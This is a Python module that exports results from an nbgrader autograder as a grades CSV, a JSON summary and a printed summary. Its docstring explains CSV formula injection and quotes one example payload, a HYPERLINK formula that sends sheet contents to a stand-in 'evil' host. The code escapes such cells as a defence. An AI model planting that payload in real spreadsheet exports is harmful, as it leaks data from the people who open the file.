"""Export, the last stage of grading: the grades CSV, the batch summary (JSON and words).

Stages: intake -> policy -> execution -> verdicts -> export. nbgrader's gradebook and feedback are
written by nbgrader itself during execution; export reads the gradebook back.


A CSV cell starting with ``=``, ``+``, ``-`` or ``@`` (or a tab or carriage return) is run as a
formula by Excel, LibreOffice and Google Sheets: a student name such as
``=HYPERLINK("http://evil/?"&A1, "Jane")`` would leak the sheet or run commands. Every text cell
goes through :func:`spreadsheet_safe` before it is written.
"""

from __future__ import annotations

import csv
import json
from dataclasses import dataclass, field
from numbers import Number
from pathlib import Path

_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def spreadsheet_safe(value: object) -> str:
    """``value`` as a CSV cell that no spreadsheet runs as a formula.

    Numbers stay numbers (``-1.5`` gives ``"-1.5"``); text starting like a formula gets a single
    quote in front (``"=1+1"`` gives ``"'=1+1"``), which spreadsheets show as plain text. ``None``
    gives an empty cell.
    """
    if value is None:
        return ""
    if isinstance(value, Number):
        return str(value)
    text = str(value)
    return "'" + text if text.startswith(_FORMULA_START) else text


# ---------------------------------------------------------------------------- the batch's results


@dataclass
class GradingResult:
    """What happened to one batch: the input of every export."""

    assignment: str
    csv_path: Path
    summary_path: Path | None = None
    scores: dict[str, float] = field(default_factory=dict)       # student -> total score
    max_score: float = 0.0
    cells: list[str] = field(default_factory=list)               # graded cells, in notebook order
    cell_scores: dict[str, dict[str, float]] = field(default_factory=dict)   # student -> cell -> score
    errors: dict[str, str] = field(default_factory=dict)         # student -> reason (not graded or failed)
    flags: dict[str, list[dict]] = field(default_factory=dict)   # student -> flags for review
    graded: list[str] = field(default_factory=list)              # graded in this run
    unchanged: list[str] = field(default_factory=list)           # skipped: same files as last run
    late: dict[str, str] = field(default_factory=dict)           # student -> how late, in words
    missing: list[str] = field(default_factory=list)             # on the roster, nothing handed in
    unmapped: list[str] = field(default_factory=list)            # LMS files that matched no student
    skipped: list[dict] = field(default_factory=list)            # every file not graded, with why
    isolation: str = ""
    data_problems: list[str] = field(default_factory=list)


def read_gradebook(result: GradingResult, db_url: str) -> None:
    """Fill ``result``'s scores, cells and late marks from nbgrader's gradebook."""
    from nbgrader.api import Gradebook, MissingEntry

    with Gradebook(db_url) as gb:
        assignment = gb.find_assignment(result.assignment)
        result.cells = [c.name for nb in assignment.notebooks for c in nb.grade_cells]
        result.max_score = assignment.max_score
        for student in sorted(s.id for s in gb.students):
            try:
                submission = gb.find_submission(result.assignment, student)
            except MissingEntry:
                continue
            result.scores[student] = submission.score
            result.cell_scores[student] = {g.cell.name: g.score for nb in submission.notebooks for g in nb.grades
                                           if g.cell.name in result.cells}
            if submission.total_seconds_late > 0:
                result.late[student] = f"{submission.total_seconds_late / 3600:.1f} h after the deadline"


def write_csv(result: GradingResult) -> None:
    """One row per student: graded ones, then the ungraded ones with their reason, then the roster's
    students who handed nothing in. Every text cell is spreadsheet-safe."""
    def row(student: str, score: float, cells: dict[str, float], error: str) -> list[str]:
        values = [student, score, result.max_score] + [cells.get(c, 0.0) for c in result.cells]
        return [spreadsheet_safe(v) for v in values + [_flag_text(result.flags.get(student)), error]]

    with open(result.csv_path, "w", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow([spreadsheet_safe(h) for h in ["student_id", "score", "max_score", *result.cells, "flags",
                                                        "error"]])
        for student, score in sorted(result.scores.items()):
            writer.writerow(row(student, score, result.cell_scores.get(student, {}), result.errors.get(student, "")))
        for student, reason in sorted(result.errors.items()):
            if student not in result.scores:
                writer.writerow(row(student, 0.0, {}, reason))
        for student in result.missing:
            writer.writerow(row(student, 0.0, {}, "nothing handed in"))


def _flag_text(flags: list[dict] | None) -> str:
    return "; ".join(sorted({f"{f['kind']}" + (f" ({f['cell']})" if f.get("cell") else "") for f in flags or []}))


def write_summary(result: GradingResult) -> None:
    """The batch as JSON: graded, unchanged, failed with reason, late, missing, unmapped, every file not
    graded with why, every flag with its cell and reason."""
    summary = {
        "assignment": result.assignment, "max_score": result.max_score, "isolation": result.isolation,
        "graded": sorted(result.graded), "unchanged": sorted(result.unchanged),
        "failed": dict(sorted(result.errors.items())), "late": dict(sorted(result.late.items())),
        "unmapped": result.unmapped, "missing": result.missing, "skipped": result.skipped,
        "flags": dict(sorted(result.flags.items())), "data_problems": result.data_problems,
        "scores": dict(sorted(result.scores.items())),
    }
    result.summary_path.write_text(json.dumps(summary, indent=1))


def summary_text(result: GradingResult) -> str:
    """The batch summary in words, as ``python -m autograder grade`` prints it."""
    lines = [f"{result.assignment}: {len(result.scores)} graded in the gradebook "
             f"({len(result.graded)} this run, {len(result.unchanged)} unchanged and skipped), "
             f"{len([s for s in result.errors if s not in result.scores])} not graded, "
             f"{len(result.late)} late, {len(result.missing)} missing, {len(result.unmapped)} unmapped, "
             f"{len(result.skipped)} files not graded; {len(result.flags)} flagged. "
             f"Kernel isolation: {result.isolation or 'n/a'}."]
    for student, score in sorted(result.scores.items()):
        lines.append(f"  {student:24s} {score:6.1f} / {result.max_score:g}")
    for student, reason in sorted(result.errors.items()):
        lines.append(f"  {student:24s} ERROR: {reason}")
    for student, how in sorted(result.late.items()):
        lines.append(f"  {student:24s} LATE: {how}")
    for student in result.missing:
        lines.append(f"  {student:24s} MISSING: on the roster, nothing handed in")
    for name in result.unmapped:
        lines.append(f"  UNMAPPED: {name}")
    for item in result.skipped:
        if item.get("kind") not in ("unmapped", "junk"):
            lines.append(f"  NOT GRADED: {item['path']}: {item['reason']}")
    for student, flags in sorted(result.flags.items()):
        for flag in flags:
            where = f" [{flag['cell']}]" if flag.get("cell") else ""
            lines.append(f"  FLAG {student:19s} {flag['kind']}{where}: {flag['detail']}")
    return "\n".join(lines)
